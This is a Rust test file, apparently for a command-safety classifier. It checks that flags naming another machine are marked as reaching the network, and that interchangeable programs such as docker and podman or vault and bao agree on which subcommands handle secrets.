fn a_flag_that_names_another_machine_reaches_it_or_was_judged() {
    fn walk(node: &Node, path: &str, reaches: bool, found: &mut Vec<String>) {
        let reaches = reaches || node.network;
        for (name, flag) in &node.long {
            let kind = match &flag.value {
                FlagValue::None => continue,
                FlagValue::Required(kind) | FlagValue::Optional(kind) => kind,
            };
            let harmless = matches!(flag.effect, FlagEffect::Harmless | FlagEffect::Bound);
            if harmless
                && !reaches
                && !node.writes
                && WHERE.contains(&name.as_str())
                && matches!(kind, Kind::Text | Kind::Word | Kind::Name | Kind::NoneOf(_))
            {
                found.push(format!("{path} --{name}"));
            }
        }
        for (name, sub) in &node.subs {
            walk(sub, &format!("{path} {name}"), reaches, found);
        }
        for (_, mode) in &node.modes {
            walk(mode, path, reaches, found);
        }
    }
    let mut found = Vec::new();
    for entry in all().flatten() {
        walk(&entry.node, &entry.node.name, false, &mut found);
    }
    found.retain(|flag| !STAYS.iter().any(|(pattern, _)| is_like(flag, pattern)));
    found.sort();
    found.dedup();
    assert!(found.is_empty(), "{found:#?}");
}

/// Programs that are written to take the place of another one.
const SIBLINGS: &[&[&str]] = &[
    &["docker", "podman", "nerdctl"],
    &["docker-compose", "podman-compose"],
    &["kubectl", "oc"],
    &["lxc", "incus"],
    &["mysql", "mariadb"],
    &["mysqldump", "mariadb-dump"],
    &["redis-cli", "valkey-cli"],
    &["terraform", "tofu"],
    &["vault", "bao"],
    &["exim", "exim4"],
    &["pip", "pip3"],
    &["yum", "dnf"],
];

/// What one of them calls a secret, the others do, too.
#[test]
fn programs_that_replace_each_other_agree_on_secrets() {
    let mut wrong = Vec::new();
    let mut compared = 0;
    for siblings in SIBLINGS {
        let levels_of = |name: &str| {
            let mut found = Vec::new();
            if let Some(node) = super::program(name) {
                levels(node, "", &mut found);
            }
            found
        };
        for one in *siblings {
            for (path, node) in levels_of(one) {
                for other in siblings.iter().filter(|other| *other != one) {
                    let twins: Vec<&Node> = levels_of(other)
                        .into_iter()
                        .filter(|(other_path, _)| *other_path == path)
                        .map(|(_, node)| node)
                        .collect();
                    compared += twins.len();
                    if node.sensitive && !twins.is_empty() && !twins.iter().any(|twin| twin.sensitive) {
                        wrong.push(format!("`{one}{path}` is sensitive, `{other}{path}` is not"));
                    }
                }
            }
        }
    }
    assert!(compared > 200, "only {compared} levels compared");
    assert!(wrong.is_empty(), "{wrong:#?}");
}
